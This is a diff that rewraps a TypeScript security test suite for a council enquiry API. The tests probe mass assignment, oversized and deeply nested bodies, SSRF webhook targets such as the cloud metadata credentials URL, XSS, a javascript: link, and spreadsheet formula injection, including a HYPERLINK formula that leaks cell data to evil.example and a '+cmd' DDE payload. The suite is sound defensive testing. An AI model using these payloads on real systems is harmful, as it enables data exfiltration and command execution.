@@ -85,7 +85,9 @@ describe('hostile input over HTTP', () => {
   it('refuses server-owned and prototype fields on every JSON body with a 400 naming the field, and changes nothing', async () => {
     const before = await organisationFingerprint(tenant.id);
     const problems: string[] = [];
-    const withBodies = operations.filter((operation) => operation.operation.requestBody?.content['application/json'] && !operation.path.startsWith('/api/channels/'));
+    const withBodies = operations.filter(
+      (operation) => operation.operation.requestBody?.content['application/json'] && !operation.path.startsWith('/api/channels/'),
+    );
     expect(withBodies.length).toBeGreaterThan(30);
     for (const operation of withBodies) {
       const rule = ROUTES[operation.key];
@@ -95,22 +97,34 @@ describe('hostile input over HTTP', () => {
       }
       const parameters = (operation.path.match(/\{(\w+)\}/g) ?? []).map((p) => p.slice(1, -1));
       // The caller's own, real resources: without the planted field, most of these requests would act.
-      const path = fillPath(operation.path, Object.fromEntries(parameters.map((p) => [p, isIdParameter(p) ? idFor(operation.path, p, held, tenant) : p === 'recordType' ? 'webchat' : 'phone'])));
+      const path = fillPath(
+        operation.path,
+        Object.fromEntries(
+          parameters.map((p) => [p, isIdParameter(p) ? idFor(operation.path, p, held, tenant) : p === 'recordType' ? 'webchat' : 'phone']),
+        ),
+      );
       const token = rule.roles === 'public' ? undefined : tenant.tokens[rule.roles[0]];
       for (const field of MASS_ASSIGNED) {
         figures.massAssignmentProbes += 1;
         let call = request(app.url)[operation.method](path).set('content-type', 'application/json');
         if (token) call = call.set(auth(token));
         const response = noServerError(await call.send(withField(validBody(operation.key, tenant, held), field)));
-        const named = response.body.errors?.some((error: { field: string }) => error.field === field) && String(response.body.message).includes(field);
-        if (response.status !== 400 || !named) problems.push(`${operation.key} + ${field}: ${response.status} ${JSON.stringify(response.body).slice(0, 200)}`);
+        const named =
+          response.body.errors?.some((error: { field: string }) => error.field === field) && String(response.body.message).includes(field);
+        if (response.status !== 400 || !named)
+          problems.push(`${operation.key} + ${field}: ${response.status} ${JSON.stringify(response.body).slice(0, 200)}`);
       }
     }
     // Nested: a server-owned field inside an object is refused by its path.
     const nested = await request(app.url)
       .post('/api/enquiries')
       .set(auth(tenant.tokens.advisor))
-      .send({ channel: 'phone', requesterType: 'citizen', subject: { name: 'Nested Probe', organisationId: randomUUID() }, description: 'probe' });
+      .send({
+        channel: 'phone',
+        requesterType: 'citizen',
+        subject: { name: 'Nested Probe', organisationId: randomUUID() },
+        description: 'probe',
+      });
     figures.massAssignmentProbes += 1;
     expect(nested.status).toBe(400);
     expect(nested.body.message).toContain('subject.organisationId');
@@ -123,7 +137,9 @@ describe('hostile input over HTTP', () => {
     for (const field of MASS_ASSIGNED) {
       const body = withField(callLog(), field);
       figures.massAssignmentProbes += 1;
-      const response = noServerError(await request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(body)).send(body));
+      const response = noServerError(
+        await request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(body)).send(body),
+      );
       expect({ field, status: response.status }).toEqual({ field, status: 400 });
       expect(response.body.message).toContain(field);
     }
@@ -132,15 +148,30 @@ describe('hostile input over HTTP', () => {
 
   it('answers bodies over each route’s limit with 413, whoever sends them', async () => {
     const before = await organisationFingerprint(tenant.id);
-    const bigJson = JSON.stringify({ channel: 'phone', requesterType: 'citizen', subject: { name: 'Big' }, description: 'x'.repeat(1024 * 1024 + 10) });
+    const bigJson = JSON.stringify({
+      channel: 'phone',
+      requesterType: 'citizen',
+      subject: { name: 'Big' },
+      description: 'x'.repeat(1024 * 1024 + 10),
+    });
     const bigMail = `From: a@example.org\r\nTo: contact@${tenant.slug}.test\r\nSubject: big\r\n\r\n${'x'.repeat(1024 * 1024 + 10)}`;
     const probes: [string, string, Record<string, string>, string][] = [
       ['JSON, staff', '/api/enquiries', { ...auth(tenant.tokens.advisor), 'content-type': 'application/json' }, bigJson],
       ['JSON, anonymous', '/api/auth/login', { 'content-type': 'application/json' }, bigJson],
       ['JSON, signed push', `/api/channels/phone/${tenant.slug}/calls`, signedHeaders(bigJson), bigJson],
       ['JSON, unsigned push', `/api/channels/forms/${tenant.slug}/submissions`, { 'content-type': 'application/json' }, bigJson],
-      ['CSV over 10 MB', '/api/calls/import', { ...auth(tenant.tokens.supervisor), 'content-type': 'text/csv' }, `callId\n${'x'.repeat(10 * 1024 * 1024 + 10)}`],
-      ['e-mail over EMAIL_MAX_BYTES', `/api/channels/email/${tenant.slug}/inbound`, { ...signedHeaders(bigMail), 'content-type': 'message/rfc822' }, bigMail],
+      [
+        'CSV over 10 MB',
+        '/api/calls/import',
+        { ...auth(tenant.tokens.supervisor), 'content-type': 'text/csv' },
+        `callId\n${'x'.repeat(10 * 1024 * 1024 + 10)}`,
+      ],
+      [
+        'e-mail over EMAIL_MAX_BYTES',
+        `/api/channels/email/${tenant.slug}/inbound`,
+        { ...signedHeaders(bigMail), 'content-type': 'message/rfc822' },
+        bigMail,
+      ],
     ];
     for (const [what, path, headers, body] of probes) {
       figures.oversizedProbes += 1;
@@ -157,20 +188,61 @@ describe('hostile input over HTTP', () => {
     const before = await organisationFingerprint(tenant.id);
     const deepArray = `${'['.repeat(10_000)}${']'.repeat(10_000)}`;
     const deepObject = `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`;
-    const inField = JSON.stringify({ channel: 'phone', requesterType: 'citizen', subject: { name: 'x' }, description: 'd' }).replace('"x"', deepObject);
+    const inField = JSON.stringify({ channel: 'phone', requesterType: 'citizen', subject: { name: 'x' }, description: 'd' }).replace(
+      '"x"',
+      deepObject,
+    );
     const signedDeep = `{"callId":${deepArray}}`;
     const probes: [string, () => request.Test][] = [
-      ['array at the root', () => request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(deepArray)],
-      ['object at the root', () => request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(deepObject)],
-      ['inside a field', () => request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(inField)],
-      ['an administrator’s PATCH', () => request(app.url).patch('/api/organisation').set(auth(tenant.tokens.admin)).set('content-type', 'application/json').send(`{"businessHours":{"weekly":${deepObject}}}`)],
+      [
+        'array at the root',
+        () =>
+          request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(deepArray),
+      ],
+      [
+        'object at the root',
+        () =>
+          request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(deepObject),
+      ],
+      [
+        'inside a field',
+        () =>
+          request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send(inField),
+      ],
+      [
+        'an administrator’s PATCH',
+        () =>
+          request(app.url)
+            .patch('/api/organisation')
+            .set(auth(tenant.tokens.admin))
+            .set('content-type', 'application/json')
+            .send(`{"businessHours":{"weekly":${deepObject}}}`),
+      ],
       ['login, anonymous', () => request(app.url).post('/api/auth/login').set('content-type', 'application/json').send(deepObject)],
-      ['signed call log', () => request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(signedDeep)).send(signedDeep)],
-      ['signed social event', () => {
-        const sig = `sha256=${createHmac('sha256', 'signpost-demo-app-secret').update(deepObject).digest('hex')}`;
-        return request(app.url).post('/api/channels/social/lancashire/webhook').set('content-type', 'application/json').set('x-hub-signature-256', sig).send(deepObject);
-      }],
-      ['a million brackets', () => request(app.url).post('/api/enquiries').set(auth(tenant.tokens.advisor)).set('content-type', 'application/json').send('['.repeat(1_000_000))],
+      [
+        'signed call log',
+        () => request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(signedDeep)).send(signedDeep),
+      ],
+      [
+        'signed social event',
+        () => {
+          const sig = `sha256=${createHmac('sha256', 'signpost-demo-app-secret').update(deepObject).digest('hex')}`;
+          return request(app.url)
+            .post('/api/channels/social/lancashire/webhook')
+            .set('content-type', 'application/json')
+            .set('x-hub-signature-256', sig)
+            .send(deepObject);
+        },
+      ],
+      [
+        'a million brackets',
+        () =>
+          request(app.url)
+            .post('/api/enquiries')
+            .set(auth(tenant.tokens.advisor))
+            .set('content-type', 'application/json')
+            .send('['.repeat(1_000_000)),
+      ],
     ];
     for (const [what, probe] of probes) {
       figures.nestingProbes += 1;
@@ -188,15 +260,24 @@ describe('hostile input over HTTP', () => {
     const { advisor } = tenant.tokens;
     await request(app.url).post('/api/routing/suggest').set(auth(advisor)).send({ text: words }).expect(200);
     await request(app.url).post('/api/knowledge/suggest').set(auth(advisor)).send({ text: words }).expect(200);
-    await request(app.url).get(`/api/knowledge?q=${encodeURIComponent(words)}`).set(auth(advisor)).expect(200);
+    await request(app.url)
+      .get(`/api/knowledge?q=${encodeURIComponent(words)}`)
+      .set(auth(advisor))
+      .expect(200);
     const created = await newEnquiry(app, advisor, { subject: { name: 'Word Person' }, description: words, legalBasis: undefined });
-    await request(app.url).post(`/api/enquiries/${created.id}/topic`).set(auth(advisor)).send({ service: 'highways' }).expect((r) => expect(r.status).toBeLessThan(300));
+    await request(app.url)
+      .post(`/api/enquiries/${created.id}/topic`)
+      .set(auth(advisor))
+      .send({ service: 'highways' })
+      .expect((r) => expect(r.status).toBeLessThan(300));
     await escalate(app, advisor, created.id, 'highways', { reasonForReferral: words, actionsAlreadyTaken: words });
   });
 
   it('refuses webhook URLs that reach this machine, private networks or cloud metadata, naming the reason, and keeps the delivery as it was', async () => {
     const admin = auth(tenant.tokens.admin);
-    const secret = `whsec_${Buffer.from(randomUUID() + randomUUID()).toString('base64').slice(0, 40)}`;
+    const secret = `whsec_${Buffer.from(randomUUID() + randomUUID())
+      .toString('base64')
+      .slice(0, 40)}`;
     const targets = [
       'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
       'http://[fd00:ec2::254]/latest/meta-data/',
@@ -234,62 +315,129 @@ describe('hostile input over HTTP', () => {
     // A DNS name that resolves to a private address: this machine's own name usually does.
     const hostname = os.hostname();
     const resolved = await lookup(hostname).catch(() => undefined);
-    if (resolved && /^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/.test(resolved.address)) targets.push(`http://${hostname}:8080/hook`);
+    if (resolved && /^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.)/.test(resolved.address))
+      targets.push(`http://${hostname}:8080/hook`);
     const before = await request(app.url).get('/api/services/blue-badge').set(admin).expect(200);
     const problems: string[] = [];
     for (const url of targets) {
       figures.ssrfTargets += 1;
-      const response = noServerError(await request(app.url).patch('/api/services/blue-badge').set(admin).send({ delivery: { type: 'webhook', url, secret } }));
-      const refused = response.status === 400 && ['WEBHOOK_TARGET_REFUSED', 'VALIDATION_FAILED'].includes(response.body.code) && /delivery\.url|url must/.test(response.body.message);
+      const response = noServerError(
+        await request(app.url)
+          .patch('/api/services/blue-badge')
+          .set(admin)
+          .send({ delivery: { type: 'webhook', url, secret } }),
+      );
+      const refused =
+        response.status === 400 &&
+        ['WEBHOOK_TARGET_REFUSED', 'VALIDATION_FAILED'].includes(response.body.code) &&
+        /delivery\.url|url must/.test(response.body.message);
       if (!refused) problems.push(`${url}: ${response.status} ${JSON.stringify(response.body).slice(0, 200)}`);
     }
     expect(problems).toEqual([]);
     const after = await request(app.url).get('/api/services/blue-badge').set(admin).expect(200);
     expect(after.body).toEqual(before.body);
     // The same request with a public address is accepted: the refusals above are the rules, not a blanket no.
-    const control = await request(app.url).patch('/api/services/blue-badge').set(admin).send({ delivery: { type: 'webhook', url: 'https://93.184.216.34/hook', secret } });
+    const control = await request(app.url)
+      .patch('/api/services/blue-badge')
+      .set(admin)
+      .send({ delivery: { type: 'webhook', url: 'https://93.184.216.34/hook', secret } });
     expect(control.status).toBe(200);
-    const controlIpv6 = await request(app.url).patch('/api/services/blue-badge').set(admin).send({ delivery: { type: 'webhook', url: 'https://[2606:4700:4700::1111]/hook', secret } });
+    const controlIpv6 = await request(app.url)
+      .patch('/api/services/blue-badge')
+      .set(admin)
+      .send({ delivery: { type: 'webhook', url: 'https://[2606:4700:4700::1111]/hook', secret } });
     expect(controlIpv6.status).toBe(200);
-    await request(app.url).patch('/api/services/blue-badge').set(admin).send({ delivery: { type: 'portal' } }).expect(200);
+    await request(app.url)
+      .patch('/api/services/blue-badge')
+      .set(admin)
+      .send({ delivery: { type: 'portal' } })
+      .expect(200);
   });
 
   it('returns XSS payloads in every text field staff see exactly as written, as JSON text that no browser sniffs as a page', async () => {
     const { advisor, supervisor, dpo, admin, service } = tenant.tokens;
-    const created = await newEnquiry(app, advisor, { subject: { name: XSS, address: XSS }, description: XSS, sourceReference: XSS.slice(0, 100), legalBasis: undefined });
+    const created = await newEnquiry(app, advisor, {
+      subject: { name: XSS, address: XSS },
+      description: XSS,
+      sourceReference: XSS.slice(0, 100),
+      legalBasis: undefined,
+    });
     const enquiry = created.id;
     await request(app.url).post(`/api/enquiries/${enquiry}/notes`).set(auth(advisor)).send({ text: XSS }).expect(201);
-    const referral = await escalate(app, advisor, enquiry, 'blue-badge', { reasonForReferral: XSS, actionsAlreadyTaken: XSS, specialRequirements: XSS });
+    const referral = await escalate(app, advisor, enquiry, 'blue-badge', {
+      reasonForReferral: XSS,
+      actionsAlreadyTaken: XSS,
+      specialRequirements: XSS,
+    });
     await request(app.url).post(`/api/escalations/${referral.id}/updates`).set(auth(service)).send({ text: XSS }).expect(201);
     const resolved = await newEnquiry(app, advisor, { subject: { name: 'Advice Person' }, description: 'probe', legalBasis: undefined });
     await request(app.url).post(`/api/enquiries/${resolved.id}/resolve`).set(auth(advisor)).send({ advice: XSS }).expect(200);
     const subjectRequest = await request(app.url)
       .post('/api/subject-requests')
       .set(auth(dpo))
-      .send({ type: 'access', subject: { name: XSS, address: XSS }, receivedAt: new Date().toISOString().slice(0, 10), representative: { name: XSS, relationship: XSS } })
+      .send({
+        type: 'access',
+        subject: { name: XSS, address: XSS },
+        receivedAt: new Date().toISOString().slice(0, 10),
+        representative: { name: XSS, relationship: XSS },
+      })
       .expect(201);
-    await request(app.url).post(`/api/subject-requests/${subjectRequest.body.id}/clarification`).set(auth(dpo)).send({ reason: XSS }).expect((r) => expect(r.status).toBeLessThan(300));
+    await request(app.url)
+      .post(`/api/subject-requests/${subjectRequest.body.id}/clarification`)
+      .set(auth(dpo))
+      .send({ reason: XSS })
+      .expect((r) => expect(r.status).toBeLessThan(300));
     await request(app.url).post('/api/legal-holds').set(auth(dpo)).send({ enquiryId: enquiry, reason: XSS }).expect(201);
     const article = await request(app.url).post('/api/knowledge').set(auth(supervisor)).send({ title: XSS, body: XSS }).expect(201);
-    await request(app.url).post('/api/users').set(auth(admin)).send({ email: `xss-${suffix()}@${tenant.slug}.test`, displayName: XSS, role: 'advisor', password: 'a-long-enough-password' }).expect(201);
+    await request(app.url)
+      .post('/api/users')
+      .set(auth(admin))
+      .send({ email: `xss-${suffix()}@${tenant.slug}.test`, displayName: XSS, role: 'advisor', password: 'a-long-enough-password' })
+      .expect(201);
     await request(app.url).patch(`/api/services/${tenant.localService}`).set(auth(admin)).send({ name: XSS }).expect(200);
-    await request(app.url).post('/api/organisation/privacy-notices').set(auth(admin)).send({ version: `x${suffix()}`, title: XSS, body: XSS, effectiveFrom: '2099-01-01' }).expect(201);
+    await request(app.url)
+      .post('/api/organisation/privacy-notices')
+      .set(auth(admin))
+      .send({ version: `x${suffix()}`, title: XSS, body: XSS, effectiveFrom: '2099-01-01' })
+      .expect(201);
     await request(app.url)
       .post('/api/organisation/privacy-notices')
       .set(auth(admin))
       .send({ version: `y${suffix()}`, title: 'Link', url: 'javascript:alert(1)', effectiveFrom: '2099-01-01' })
       .expect(400);
     const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
-    await request(app.url).patch('/api/organisation').set(auth(admin)).send({ processors: [{ name: XSS, purpose: XSS, location: 'UK' }, { name: formula, purpose: '+cmd|" /C calc"!A0', location: 'UK' }] }).expect(200);
+    await request(app.url)
+      .patch('/api/organisation')
+      .set(auth(admin))
+      .send({
+        processors: [
+          { name: XSS, purpose: XSS, location: 'UK' },
+          { name: formula, purpose: '+cmd|" /C calc"!A0', location: 'UK' },
+        ],
+      })
+      .expect(200);
     // Spreadsheet exports show a formula as text: the cell starts with an apostrophe.
     const csv = await request(app.url).get('/api/organisation/record-of-processing?format=csv').set(auth(admin)).expect(200);
     expect(csv.text).toContain(`"'${formula.replace(/"/g, '""')}`);
     expect(csv.text).not.toMatch(/(^|,)"[=+\-@]/m);
-    const call = JSON.stringify(callLog({ callerName: XSS, agent: XSS.slice(0, 100), queue: XSS.slice(0, 100), disposition: XSS.slice(0, 100) }));
+    const call = JSON.stringify(
+      callLog({ callerName: XSS, agent: XSS.slice(0, 100), queue: XSS.slice(0, 100), disposition: XSS.slice(0, 100) }),
+    );
     const logged = await request(app.url).post(`/api/channels/phone/${tenant.slug}/calls`).set(signedHeaders(call)).send(call);
     expect([201, 400]).toContain(logged.status); // 400: a field too long or not allowed, named; never stored then
-    const mail = [`From: "${XSS.replace(/"/g, "'")}" <xss.sender@example.org>`, `To: contact@${tenant.slug}.test`, `Subject: ${XSS}`, `Message-ID: <${suffix()}@example.org>`, '', XSS].join('\r\n');
-    const mailed = await request(app.url).post(`/api/channels/email/${tenant.slug}/inbound`).set({ ...signedHeaders(mail), 'content-type': 'message/rfc822' }).send(mail).expect(201);
+    const mail = [
+      `From: "${XSS.replace(/"/g, "'")}" <xss.sender@example.org>`,
+      `To: contact@${tenant.slug}.test`,
+      `Subject: ${XSS}`,
+      `Message-ID: <${suffix()}@example.org>`,
+      '',
+      XSS,
+    ].join('\r\n');
+    const mailed = await request(app.url)
+      .post(`/api/channels/email/${tenant.slug}/inbound`)
+      .set({ ...signedHeaders(mail), 'content-type': 'message/rfc822' })
+      .send(mail)
+      .expect(201);
 
     const reads: [string, string, number][] = [
       [advisor, `/api/enquiries/${enquiry}`, 4], // name, address, description, note (and the service's update)
@@ -330,10 +478,20 @@ describe('hostile input in production mode', () => {
 
   it('refuses plain-http webhook URLs, even to a public address, and sends HSTS', async () => {
     const tenant = await provisionSecurityTenant(app, `sec-prod-${suffix()}`);
-    const secret = `whsec_${Buffer.from(randomUUID() + randomUUID()).toString('base64').slice(0, 40)}`;
-    const refused = await request(app.url).patch('/api/services/highways').set(auth(tenant.tokens.admin)).send({ delivery: { type: 'webhook', url: 'http://93.184.216.34/hook', secret } }).expect(400);
+    const secret = `whsec_${Buffer.from(randomUUID() + randomUUID())
+      .toString('base64')
+      .slice(0, 40)}`;
+    const refused = await request(app.url)
+      .patch('/api/services/highways')
+      .set(auth(tenant.tokens.admin))
+      .send({ delivery: { type: 'webhook', url: 'http://93.184.216.34/hook', secret } })
+      .expect(400);
     expect(refused.body).toMatchObject({ code: 'WEBHOOK_TARGET_REFUSED', message: expect.stringContaining('https') });
-    await request(app.url).patch('/api/services/highways').set(auth(tenant.tokens.admin)).send({ delivery: { type: 'webhook', url: 'https://93.184.216.34/hook', secret } }).expect(200);
+    await request(app.url)
+      .patch('/api/services/highways')
+      .set(auth(tenant.tokens.admin))
+      .send({ delivery: { type: 'webhook', url: 'https://93.184.216.34/hook', secret } })
+      .expect(200);
     const health = await request(app.url).get('/health').expect(200);
     expect(health.headers['strict-transport-security']).toContain('max-age=');
     // Demo accounts exist in the shared test database, but production mode does not change how logins work.
